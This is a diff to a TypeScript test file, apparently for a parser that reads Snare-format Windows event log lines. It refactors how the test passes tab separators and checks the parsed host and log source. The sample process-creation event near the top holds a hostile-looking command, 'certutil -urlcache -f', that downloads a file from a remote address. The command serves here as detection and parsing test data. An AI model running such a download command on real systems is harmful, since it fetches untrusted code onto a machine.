@@ -11,7 +11,7 @@ const CREATED =
   'Mandatory Level   Creator Process ID: 0x421c   Creator Process Name: C:\\Windows\\explorer.exe   Process Command ' +
   'Line: certutil  -urlcache  -f http://192.0.2.7/x    Token Elevation Type indicates the type of token that was assigned.'
 
-function snare(channel: string, id: number, provider: string, message: string, tab = '\t'): string {
+function snare(channel: string, id: number, provider: string, message: string): string {
   const parts = [
     'MSWinEventLog',
     1,
@@ -29,7 +29,7 @@ function snare(channel: string, id: number, provider: string, message: string, t
     message,
     99,
   ]
-  return `<13>Jul 19 20:15:01 GATE-PC1 ${parts.join(tab)}`
+  return `<13>Jul 19 20:15:01 GATE-PC1 ${parts.join('\t')}`
 }
 
 function viewsOf(line: string) {
@@ -43,8 +43,8 @@ function viewsOf(line: string) {
 }
 
 test.each(['\t', '#011'])('[T178] a new process, parts between %j', (tab) => {
-  const line = snare('Security', 4688, 'Microsoft-Windows-Security-Auditing', CREATED, tab)
-  const { timeMs, entity, views } = viewsOf(line)
+  const line = snare('Security', 4688, 'Microsoft-Windows-Security-Auditing', CREATED)
+  const { timeMs, entity, views } = viewsOf(line.replaceAll('\t', tab))
   expect({ timeMs, entity }).toEqual({ timeMs: Date.UTC(2026, 6, 19, 19, 15), entity: 'GATE-PC1' })
   expect(views.map(({ source }) => source)).toEqual([
     { product: 'windows', service: 'security' },
